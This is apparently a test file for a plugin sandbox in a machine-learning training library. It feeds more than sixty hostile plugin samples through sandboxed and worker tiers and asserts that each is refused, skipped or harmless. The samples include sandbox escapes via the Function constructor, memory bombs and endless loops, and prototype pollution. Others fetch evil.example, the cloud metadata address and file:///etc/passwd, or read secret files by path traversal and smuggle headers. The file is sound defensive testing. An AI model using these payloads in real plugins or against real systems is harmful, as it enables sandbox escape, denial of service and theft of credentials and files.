import assert from "node:assert/strict";
import { join } from "node:path";
import { describe, it } from "node:test";
import { type CallbackLike, CallbackList, type Logs } from "keepfit";
import { type LoadPluginOptions, PluginError } from "keepfit/plugins";
import { getRuntime } from "keepfit/runtime";
import { load, publish, setUpSite, site } from "../journeys/plugin_site.ts";

setUpSite();

/** What comes of a plugin: it is not loaded, it is left out, or it runs and does no harm. */
type Outcome = "refused" | "left out" | "harmless";

interface Hostile {
  what: string;
  /** The body of its `onEpochEnd(epoch, logs)`, with `context` and `options` at hand. */
  hook?: string;
  /** The whole module instead. */
  module?: string;
  /** In a sandbox, and in a worker where that differs. Undefined for a tier in which it is allowed. */
  sandboxed: Outcome;
  worker: Outcome | undefined;
  /** What ends it is a limit of time, or may be: it gets short ones, all others as good as none. */
  hangs?: true;
  controls?: string[];
  /** What its manifest has beside. */
  manifest?: Record<string, unknown>;
  options?: LoadPluginOptions;
}

/** The network as the plugin would have it; the plugin itself comes from the server of this file. */
const answering = (answer: () => Response) => (input: string, init: RequestInit) =>
  input.startsWith("https://example.com/") ? Promise.resolve(answer()) : fetch(input, init);

const all = ["addLogs", "readWeights", "setLearningRate", "stop", "writeWeights"];
const net = { permissions: { net: [{ host: "example.com", reason: "x" }] } };
const read = { permissions: { read: [{ path: "allowed", reason: "x" }] } };
const harmless = { sandboxed: "harmless", worker: "harmless" } as const;
const leftOut = { sandboxed: "left out", worker: "left out" } as const;
const refused = { sandboxed: "refused", worker: "refused" } as const;
const short = { callTime: 1500, hookTime: 5000 };
const long = { callTime: 300_000, hookTime: 300_000 };
// Deno and Bun cannot limit the memory of a thread: there a bomb takes the process with it.
const isNode = getRuntime().name === "node";
const bomb = { sandboxed: "left out", worker: isNode ? "left out" : undefined } as const;
/** The rights of the process are what a worker has: what it does with them is not held against it. */
const sandboxOnly = { worker: undefined } as const;

/** A thread's own way to post messages, on each runtime. */
const post =
  `const port = globalThis.process?.getBuiltinModule?.("node:worker_threads")?.parentPort; const post = typeof globalThis.postMessage === "function" ? globalThis.postMessage.bind(globalThis) : port.postMessage.bind(port);`;

const corpus: Hostile[] = [
  { what: "never ends in a hook", hook: "for (;;);", hangs: true, ...leftOut },
  { what: "never ends in its module", module: "for (;;);", hangs: true, ...refused },
  {
    what: "never ends in its factory",
    module: "export default () => { for (;;); };",
    hangs: true,
    ...refused,
  },
  {
    what: "never ends in a getter of what it made",
    module: "export default () => ({ get onEpochEnd() { for (;;); } });",
    hangs: true,
    ...refused,
  },
  {
    what: "never ends in a promise's jobs",
    hook: "await (function again() { return Promise.resolve().then(again); })();",
    hangs: true,
    ...leftOut,
  },
  {
    what: "waits for what never comes",
    hook: "await new Promise(() => {});",
    hangs: true,
    ...leftOut,
  },
  {
    what: "awaits a then that is never called",
    hook: "await { then() {} };",
    hangs: true,
    ...leftOut,
  },
  {
    what: "returns a then that is called twice",
    module:
      "export default () => ({ onEpochEnd: () => ({ then(yes, no) { yes(1); no(new Error('x')); } }) });",
    ...harmless,
  },
  {
    what: "recurses without end",
    hook: "(function again() { return again() + 1; })();",
    ...leftOut,
  },
  {
    what: "recurses through JSON",
    hook: "let a = []; for (let i = 0; i < 1e5; i++) a = [a]; JSON.stringify(a);",
    sandboxed: "left out",
    // Some engines manage.
    worker: undefined,
  },
  {
    what: "sorts with a comparison that never ends",
    hook: "[2, 1].sort(() => { for (;;); });",
    hangs: true,
    ...leftOut,
  },
  {
    what: "matches a pattern that never ends",
    hook: "/^(a+)+$/.test('a'.repeat(60) + '!');",
    sandboxed: "left out",
    // Some engines give up by themselves.
    hangs: true,
    worker: undefined,
  },
  {
    what: "fills memory with arrays",
    hook: "const a = []; for (;;) a.push(new Array(1e4).fill(1));",
    hangs: true,
    ...bomb,
    options: { limits: { memory: 32 * 1024 * 1024 } },
  },
  {
    what: "fills memory with one text",
    hook: "let s = 'x'; for (;;) s += s;",
    hangs: true,
    ...bomb,
  },
  {
    what: "fills memory with one buffer",
    hook: "new Uint8Array(2 ** 31);",
    sandboxed: "left out",
    ...sandboxOnly,
  },
  {
    what: "floods with promises",
    hook: "for (;;) Promise.resolve().then(() => {});",
    hangs: true,
    ...bomb,
  },
  {
    what: "copies bytes for ever",
    hook: "const a = new Uint8Array(40 << 20); for (;;) a.copyWithin(0, 1);",
    hangs: true,
    sandboxed: "left out",
    ...sandboxOnly,
  },
  {
    what: "fills bytes for ever",
    hook:
      "const a = new Uint8Array(40 << 20); for (;;) try { a.fill(7); } catch {} finally { continue; }",
    hangs: true,
    sandboxed: "left out",
    ...sandboxOnly,
  },
  {
    what: "joins texts for ever",
    hook: "const s = 'x'.repeat(1e7); for (;;) (s + s).charCodeAt(3);",
    hangs: true,
    sandboxed: "left out",
    ...sandboxOnly,
  },
  {
    what: "asks the host for ever",
    hook: "for (;;) await context.readWeights();",
    hangs: true,
    ...leftOut,
    controls: all,
  },
  { what: "throws undefined", hook: "throw undefined;", ...leftOut },
  { what: "throws null", hook: "throw null;", ...leftOut },
  { what: "throws a symbol", hook: "throw Symbol('x');", ...leftOut },
  {
    what: "throws what cannot be shown",
    hook: "throw { toString() { throw 1; }, get message() { throw 2; } };",
    ...leftOut,
  },
  {
    what: "throws a proxy",
    hook: "throw new Proxy({}, { get() { throw 3; }, getPrototypeOf() { throw 4; } });",
    ...leftOut,
  },
  {
    what: "throws an error with a huge message",
    hook: "throw new Error('x'.repeat(5e6));",
    ...leftOut,
  },
  {
    what: "rejects where nobody listens",
    hook: "Promise.reject(new Error('lost'));",
    sandboxed: "harmless",
    worker: "left out",
  },
  { what: "logs a line of five megabytes", hook: "context.log('x'.repeat(5e6));", ...harmless },
  {
    what: "logs a thousand lines",
    hook: "for (let i = 0; i < 1000; i++) context.log('line ' + i);",
    ...harmless,
  },
  {
    what: "logs escape sequences",
    hook: "context.log('\\u001b[2J\\u001b]0;title\\u0007\\r fake');",
    ...harmless,
  },
  {
    what: "pollutes the prototype of all objects",
    hook:
      "Object.prototype.pwned = 1; Array.prototype.map = () => { throw 1; }; JSON.parse = () => ({ pwned: 1 });",
    ...harmless,
  },
  {
    what: "pollutes through its logs",
    hook:
      "logs.__proto__ = { pwned: 1 }; Object.defineProperty(logs, '__proto__', { value: 1, enumerable: true }); logs.constructor = 1;",
    ...harmless,
    controls: all,
  },
  {
    what: "adds logs that are no numbers",
    hook: "Object.assign(logs, { a: 'x', b: {}, c: null, d: () => 1, e: undefined });",
    ...harmless,
    controls: all,
  },
  {
    what: "adds ten thousand logs",
    hook: "for (let i = 0; i < 1e4; i++) logs['k' + i] = i;",
    ...leftOut,
    controls: all,
  },
  {
    what: "adds other logs in each epoch without end",
    hook: "for (let i = 0; i < 500; i++) logs['k' + epoch + '.' + i] = i;",
    ...leftOut,
    controls: all,
  },
  {
    what: "adds a log whose name drives the terminal",
    hook: "logs['\\u001b[2J\\u001b[Hall is well'] = 1;",
    ...leftOut,
    controls: all,
  },
  {
    what: "adds a log whose name is long",
    hook: "logs['x'.repeat(2e6)] = 1;",
    ...leftOut,
    controls: all,
  },
  {
    what: "changes logs by a message of its own",
    hook:
      `${post} for (let id = 1; id < 40; id++) post({ kind: 'result', id, logs: { loss: 0 } });`,
    worker: "left out",
    sandboxed: "left out",
  },
  {
    what: "posts nothing",
    hook: `${post} post(null); await new Promise(() => {});`,
    ...leftOut,
  },
  {
    what: "posts an answer that is none",
    hook: `${post} post({ kind: 'result', id: 2, error: null }); await new Promise(() => {});`,
    ...leftOut,
  },
  {
    what: "posts that it lives and never comes back",
    hook:
      `${post} for (;;) { post({ kind: 'pong', nonce: 1 }); const end = Date.now() + 20; while (Date.now() < end); }`,
    hangs: true,
    ...leftOut,
  },
  {
    what: "answers for itself while it is loaded",
    module:
      `${post} post({ kind: 'result', id: 1, members: 5 }); export default () => ({ onEpochEnd() {} });`,
    ...refused,
  },
  {
    what: "redefines what logs are read with",
    hook:
      "Object.defineProperty(logs, 'loss', { get() { for (;;); }, enumerable: true, configurable: true });",
    hangs: true,
    ...leftOut,
    controls: all,
  },
  {
    what: "climbs to the constructor of functions",
    hook:
      "globalThis.constructor; const g = (() => {}).constructor('return this')(); g.pwned = 1; logs.loss = typeof g.process + typeof g.Deno + typeof g.Bun === 'undefinedundefinedundefined' ? 1 : 2;",
    sandboxed: "harmless",
    ...sandboxOnly,
    controls: all,
  },
  {
    what: "climbs from the functions of its context",
    hook:
      "const g = context.log.constructor('return this')(); if (typeof g.process !== 'undefined' || typeof g.fetch !== 'undefined') throw new Error('out'); ",
    sandboxed: "harmless",
    ...sandboxOnly,
  },
  {
    what: "climbs from an error of the host",
    hook:
      "try { context.setLearningRate('x'); } catch (error) { const g = error.constructor.constructor('return this')(); if (typeof g.process !== 'undefined') throw new Error('out'); if (/\\/(plugins|core)\\//.test(error.stack)) throw new Error('sees the host'); }",
    sandboxed: "harmless",
    ...sandboxOnly,
    controls: all,
  },
  {
    what: "climbs from a promise of the host",
    hook:
      "const p = context.readWeights(); const g = p.constructor.constructor('return this')(); p.catch(() => {}); if (typeof g.process !== 'undefined') throw new Error('out');",
    sandboxed: "harmless",
    ...sandboxOnly,
    controls: all,
  },
  {
    what: "changes how its context is called",
    hook:
      "Function.prototype.call = Function.prototype.apply = Reflect.apply = () => { throw 1; }; Promise.prototype.then = () => { throw 2; }; Array.prototype[Symbol.iterator] = () => { throw 3; }; context.log('still here');",
    sandboxed: "harmless",
    ...sandboxOnly,
  },
  {
    what: "writes over its context",
    hook:
      "try { context.log = 1; } catch {} try { delete context.id; } catch {} if (typeof context.log !== 'function') throw new Error('not frozen');",
    ...harmless,
  },
  { what: "imports what is computed", hook: "await import('node:' + 'fs');", ...refused },
  {
    what: "imports from code that it makes",
    hook: "await (0, eval)(\"import('node:fs')\");",
    sandboxed: "left out",
    ...sandboxOnly,
  },
  {
    what: "imports from a function that it makes",
    hook: "await new Function(\"return import('fs')\")();",
    sandboxed: "left out",
    ...sandboxOnly,
  },
  {
    what: "looks for a way to the machine",
    hook:
      "for (const name of ['process', 'Deno', 'Bun', 'require', 'fetch', 'XMLHttpRequest', 'WebSocket', 'Worker', 'WebAssembly', 'setTimeout', 'navigator', 'postMessage', 'importScripts', 'SharedWorker', 'localStorage']) if (typeof globalThis[name] !== 'undefined') throw new Error(name);",
    sandboxed: "harmless",
    ...sandboxOnly,
  },
  {
    what: "ends the process",
    hook: "if (globalThis.Deno) Deno.exit(1); process.exit(1);",
    hangs: true,
    ...leftOut,
  },
  { what: "kills the process", hook: "process.abort();", sandboxed: "left out", ...sandboxOnly },
  {
    what: "sends to a host that it did not declare",
    hook: "await context.fetch('https://evil.example/');",
    ...leftOut,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "sends to a host that looks declared",
    hook: "await context.fetch('https://example.com.evil.example/');",
    ...leftOut,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "sends to a user that looks like the host",
    hook: "await context.fetch('https://example.com@evil.example/');",
    ...leftOut,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "sends to the cloud's own address",
    hook: "await context.fetch('http://169.254.169.254/latest/');",
    ...leftOut,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "sends by plain http",
    hook: "await context.fetch('http://example.com/');",
    ...leftOut,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "fetches a file",
    hook: "await context.fetch('file:///etc/passwd');",
    ...leftOut,
    manifest: net,
    options: { allow: ["net"] },
  },
  {
    what: "is redirected to this machine",
    hook: "await context.fetch('https://example.com/move');",
    ...leftOut,
    manifest: net,
    options: {
      allow: ["net"],
      fetch: answering(() =>
        new Response(null, { status: 302, headers: { location: "http://127.0.0.1/" } })
      ),
    },
  },
  {
    what: "smuggles a header",
    hook: "await context.fetch('https://example.com/', { headers: { 'x': 'a\\r\\nhost: evil' } });",
    ...leftOut,
    manifest: net,
    options: { allow: ["net"], fetch: answering(() => new Response("ok")) },
  },
  {
    what: "has a function that nobody granted",
    hook: "await context.fetch('https://example.com/');",
    ...leftOut,
  },
  {
    what: "reads above its folder",
    hook: "await context.read('allowed/../../secret.txt');",
    ...leftOut,
    manifest: read,
    options: { allow: ["read"] },
  },
  {
    what: "reads an absolute path",
    hook: "await context.read('/etc/passwd');",
    ...leftOut,
    manifest: read,
    options: { allow: ["read"] },
  },
  {
    what: "writes above its folder",
    hook: "await context.write('../x.txt', 'x');",
    ...leftOut,
    manifest: { permissions: { write: [{ path: "*.txt", reason: "x" }] } },
    options: { outputDir: "out" },
  },
  {
    what: "writes what is no data",
    hook: "await context.write('x.txt', { toString() { for (;;); } });",
    hangs: true,
    ...leftOut,
    manifest: { permissions: { write: [{ path: "*.txt", reason: "x" }] } },
    options: { outputDir: "out" },
  },
  {
    what: "sets a learning rate that is none",
    hook: "context.setLearningRate('0.1; drop');",
    ...leftOut,
    controls: all,
  },
  {
    what: "writes weights that do not fit",
    hook:
      "await context.writeWeights([{ shape: [1e9], dtype: 'float32', values: new Float32Array(1) }]);",
    ...leftOut,
    controls: all,
  },
  {
    what: "has a state that is no data",
    module:
      "export default () => ({ onEpochEnd() {}, getState: () => { const a = {}; a.a = a; return a; } });",
    ...leftOut,
  },
  {
    what: "calls the host ten thousand times at once",
    hook: "for (let i = 0; i < 1e4; i++) context.readWeights().catch(() => {});",
    sandboxed: "left out",
    worker: "harmless",
    controls: all,
  },
  {
    what: "never ends in close",
    module: "export default () => ({ onEpochEnd() {}, close() { for (;;); } });",
    hangs: true,
    ...leftOut,
  },
  {
    what: "throws in close",
    module: "export default () => ({ onEpochEnd() {}, close() { throw new Error('x'); } });",
    ...leftOut,
  },
];

interface Ran {
  failures: unknown[];
  /** What the next callback sees, of each epoch. */
  logs: Logs[];
}

async function run(callback: CallbackLike): Promise<Ran> {
  const logs: Logs[] = [];
  const next: CallbackLike = {
    name: "next",
    onEpochEnd: (_epoch, seen) => void logs.push({ ...seen }),
  };
  const list = new CallbackList([callback, next], {
    params: { verbose: 0, epochs: 3, steps: 1 },
  });
  try {
    await list.onTrainBegin();
    for (let epoch = 0; epoch < 3; epoch++) {
      await list.onEpochBegin(epoch);
      await list.onEpochEnd(epoch, { loss: 1 });
    }
    await list.getState().catch(() => {});
    await list.onTrainEnd();
  } finally {
    await list.close().catch(() => {});
  }
  return { failures: list.failures, logs };
}

for (const tier of ["sandboxed", "worker"] as const) {
  describe(`A hostile plugin, ${tier}`, () => {
    for (
      const { what, hook, module, hangs, controls = [], manifest = {}, options = {}, ...outcomes }
        of corpus
    ) {
      const outcome = outcomes[tier];
      if (outcome === undefined) continue;
      it(`A hostile plugin that ${what} is ${outcome}`, async () => {
        const source = module ??
          `export default (options, context) => ({ async onEpochEnd(epoch, logs) { ${hook} } });`;
        const url = await publish({ "main.js": source }, manifest, { controls });
        const { outputDir, limits, ...more } = options;
        const loading = load(url, {
          tier,
          limits: { ...(hangs ? short : long), memory: 48 * 1024 * 1024, ...limits },
          ...(outputDir === undefined ? {} : { outputDir: join(site.folder, "out") }),
          ...more,
        });
        if (outcome === "refused") {
          return await assert.rejects(loading, (error) => error instanceof PluginError);
        }
        const { failures, logs } = await run(await loading);
        assert.equal(failures.length > 0, outcome === "left out", String(JSON.stringify(failures)));
        // The run went on, and the host is as it was.
        assert.equal(logs.length, 3);
        if (!controls.includes("addLogs")) {
          assert.deepEqual(logs, [{ loss: 1 }, { loss: 1 }, { loss: 1 }]);
        }
        assert.deepEqual(logs.map(({ loss }) => loss), [1, 1, 1]);
        assert.equal("pwned" in {}, false);
        assert.equal("pwned" in globalThis, false);
        assert.deepEqual([1].map((one) => one + 1), [2]);
      });
    }

    it("A hostile plugin is one of many", () => assert(corpus.length >= 60));
  });
}
